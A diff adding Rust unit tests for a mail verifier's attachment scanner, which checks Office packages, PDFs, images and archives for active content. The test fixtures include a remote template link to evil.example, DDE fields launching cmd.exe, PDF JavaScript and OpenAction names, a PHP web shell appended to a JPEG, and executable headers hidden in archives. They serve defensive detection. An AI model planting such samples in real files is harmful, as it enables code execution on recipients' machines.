@@ -1859,4 +1859,237 @@ mod tests {
         // A message larger than the budget still gets its turn.
         drop(WholeParseBudget::acquire(WHOLE_PARSE_BUDGET * 2));
     }
+
+    // -- attachment content ------------------------------------------------------------------
+
+    fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        let opt = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated);
+        for (name, data) in members {
+            w.start_file(*name, opt).unwrap();
+            std::io::Write::write_all(&mut w, data).unwrap();
+        }
+        w.finish().unwrap().into_inner()
+    }
+
+    const CT: (&str, &[u8]) = ("[Content_Types].xml", b"<Types/>");
+
+    #[test]
+    fn office_packages_are_rechecked() {
+        let doc: (&str, &[u8]) = (
+            "word/document.xml",
+            b"<w:document><w:body><w:p><w:r><w:t>hello</w:t></w:r></w:p></w:body></w:document>",
+        );
+        assert_eq!(check_attachment(&zip_of(&[CT, doc])), Ok(()));
+        for bad in [
+            "word/vbaProject.bin",
+            "xl/activeX/activeX1.xml",
+            "word/embeddings/oleObject1.bin",
+            "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx",
+            "word\\vbaData.xml",
+        ] {
+            let z = zip_of(&[CT, doc, (bad, b"x")]);
+            assert!(check_attachment(&z).is_err(), "{bad}");
+        }
+        let ext = zip_of(&[
+            CT,
+            doc,
+            (
+                "word/_rels/settings.xml.rels",
+                b"<Relationships><Relationship Id=\"r1\" Target=\"http://evil.example/t.dotm\" TargetMode = \"External\"/></Relationships>",
+            ),
+        ]);
+        assert!(check_attachment(&ext)
+            .unwrap_err()
+            .contains("external relationship"));
+        for field in [
+            &b"<w:r><w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r>"[..],
+            b"<w:fldSimple w:instr=\" DDE excel &quot;x&quot;\"/>",
+            b"<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
+        ] {
+            let z = zip_of(&[CT, ("word/document.xml", field)]);
+            assert!(check_attachment(&z).unwrap_err().contains("DDE"));
+        }
+        // A hyperlink field or the word "dde" in the text is not a DDE field.
+        let ok = zip_of(&[
+            CT,
+            (
+                "word/document.xml",
+                b"<w:instrText> HYPERLINK \"https://x.example/\" </w:instrText><w:t>dde</w:t>",
+            ),
+        ]);
+        assert_eq!(check_attachment(&ok), Ok(()));
+        // A macro hidden one zip deeper.
+        let inner = zip_of(&[CT, ("xl/vbaProject.bin", b"x")]);
+        let outer = zip_of(&[("report.xlsx", &inner)]);
+        assert!(check_attachment(&outer).is_err());
+    }
+
+    #[test]
+    fn encrypted_zip_members_are_caught() {
+        let mut z = zip_of(&[("a.txt", b"hello hello hello")]);
+        assert_eq!(check_attachment(&z), Ok(()));
+        // General purpose flag bit 0 in the local header only (readers walking local headers
+        // would ask for a password), then in both headers.
+        z[6] |= 1;
+        assert!(check_attachment(&z).unwrap_err().contains("encrypted"));
+        let cd = memchr::memmem::find(&z, b"PK\x01\x02").unwrap();
+        z[cd + 8] |= 1;
+        assert!(check_attachment(&z).is_err());
+    }
+
+    fn flate(data: &[u8]) -> Vec<u8> {
+        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        std::io::Write::write_all(&mut e, data).unwrap();
+        e.finish().unwrap()
+    }
+
+    fn pdf_with(extra: &[u8]) -> Vec<u8> {
+        let mut p = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ".to_vec();
+        p.extend_from_slice(extra);
+        p.extend_from_slice(b" >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
+        p
+    }
+
+    #[test]
+    fn pdf_active_names_are_caught_raw_and_inflated() {
+        assert_eq!(check_attachment(&pdf_with(b"")), Ok(()));
+        assert_eq!(check_attachment(&pdf_with(b"/JSON (x) /AAA 1")), Ok(()));
+        for name in [
+            "JavaScript",
+            "JS",
+            "Launch",
+            "EmbeddedFile",
+            "EmbeddedFiles",
+            "OpenAction",
+            "AA",
+            "RichMedia",
+            "XFA",
+        ] {
+            let raw = pdf_with(format!("/{name} 3 0 R").as_bytes());
+            assert!(check_attachment(&raw).is_err(), "{name}");
+            // Escaped: /J#61vaScript is /JavaScript.
+            let escaped: String =
+                format!("/{}#{:02X}{}", &name[..1], name.as_bytes()[1], &name[2..]);
+            assert!(
+                check_attachment(&pdf_with(escaped.as_bytes())).is_err(),
+                "{escaped}"
+            );
+            // Inside a compressed object stream.
+            let body = flate(format!("<< /S /{name} /JS (app.alert(1)) >>").as_bytes());
+            let mut obj = format!("/ObjStm 5 0 R >>\nendobj\n5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length {} >>\nstream\n", body.len()).into_bytes();
+            obj.extend_from_slice(&body);
+            obj.extend_from_slice(b"\nendstream\nendobj\n<< /X 1");
+            let p = pdf_with(&obj);
+            assert!(check_attachment(&p).is_err(), "{name} in a stream");
+        }
+        let body = flate(b"BT /F1 12 Tf (hello) Tj ET");
+        let mut obj = format!(
+            "/C 5 0 R >>\nendobj\n5 0 obj\n<< /Length {} >>\nstream\n",
+            body.len()
+        )
+        .into_bytes();
+        obj.extend_from_slice(&body);
+        obj.extend_from_slice(b"\nendstream\nendobj\n<< /X 1");
+        assert_eq!(check_attachment(&pdf_with(&obj)), Ok(()));
+    }
+
+    fn png_plain() -> Vec<u8> {
+        let img = image::RgbImage::from_fn(3, 2, |x, y| image::Rgb([x as u8, y as u8, 7]));
+        let mut v = Vec::new();
+        img.write_to(&mut std::io::Cursor::new(&mut v), image::ImageFormat::Png)
+            .unwrap();
+        v
+    }
+
+    fn png_chunk(kind: &[u8; 4], body: &[u8]) -> Vec<u8> {
+        let mut c = (body.len() as u32).to_be_bytes().to_vec();
+        c.extend_from_slice(kind);
+        c.extend_from_slice(body);
+        c.extend_from_slice(&[0; 4]);
+        c
+    }
+
+    #[test]
+    fn image_metadata_and_trailing_data_are_caught() {
+        let png = png_plain();
+        assert_eq!(check_attachment(&png), Ok(()));
+        for kind in [b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"iCCP", b"prVt"] {
+            let mut p = png[..33].to_vec();
+            p.extend_from_slice(&png_chunk(kind, b"Comment\0GPS 35.6N"));
+            p.extend_from_slice(&png[33..]);
+            assert!(check_attachment(&p).unwrap_err().contains("PNG chunk"));
+        }
+        let mut p = png.clone();
+        p.extend_from_slice(b"PK\x03\x04 hidden");
+        assert!(check_attachment(&p)
+            .unwrap_err()
+            .contains("after the PNG end"));
+
+        let img =
+            image::RgbImage::from_fn(16, 16, |x, y| image::Rgb([x as u8 * 9, y as u8 * 9, 50]));
+        let mut jpeg = Vec::new();
+        image::codecs::jpeg::JpegEncoder::new_with_quality(&mut jpeg, 80)
+            .encode_image(&img)
+            .unwrap();
+        assert_eq!(check_attachment(&jpeg), Ok(()));
+        let mut exif = jpeg[..2].to_vec();
+        exif.extend_from_slice(b"\xFF\xE1\x00\x10Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08");
+        exif.extend_from_slice(&jpeg[2..]);
+        assert!(check_attachment(&exif).unwrap_err().contains("APP1"));
+        let mut trailing = jpeg.clone();
+        trailing.extend_from_slice(b"<?php system($_GET['c']); ?>");
+        assert!(check_attachment(&trailing)
+            .unwrap_err()
+            .contains("after the JPEG end"));
+    }
+
+    #[test]
+    fn executables_are_caught_also_inside_containers() {
+        for magic in [
+            &b"MZ\x90\x00"[..],
+            b"\x7fELF\x02",
+            b"\xCF\xFA\xED\xFE",
+            b"#!/bin/sh\n",
+        ] {
+            assert!(check_attachment(magic).is_err());
+            let z = zip_of(&[("tool.dat", magic)]);
+            assert!(check_attachment(&z).is_err());
+        }
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        std::io::Write::write_all(&mut gz, b"MZ\x90\x00 payload").unwrap();
+        let gz = gz.finish().unwrap();
+        assert!(check_attachment(&gz).is_err());
+        // A tar holding a PE.
+        let mut tar = vec![0u8; 512];
+        tar[..7].copy_from_slice(b"run.exe");
+        tar[124..135].copy_from_slice(b"00000000004");
+        tar[156] = b'0';
+        tar[257..262].copy_from_slice(b"ustar");
+        let mut body = b"MZ\x90\x00".to_vec();
+        body.resize(512, 0);
+        tar.extend_from_slice(&body);
+        tar.extend_from_slice(&[0u8; 1024]);
+        assert!(check_attachment(&tar).is_err());
+        tar[512] = b'X';
+        assert_eq!(check_attachment(&tar), Ok(()));
+    }
+
+    #[test]
+    fn a_message_with_an_active_attachment_fails_verification() {
+        let mk = |data: Vec<u8>| {
+            good(
+                OutputCharset::Utf8,
+                &[KeptAttachment {
+                    filename: "a.pdf".into(),
+                    content_type: "application/pdf".into(),
+                    data,
+                }],
+            )
+        };
+        assert!(verify_bytes(&mk(pdf_with(b"")), &exp(1)).is_ok());
+        let e = verify_bytes(&mk(pdf_with(b"/OpenAction 3 0 R")), &exp(1)).unwrap_err();
+        assert!(matches!(e, Violation::Content { part: 2, .. }), "{e}");
+    }
 }
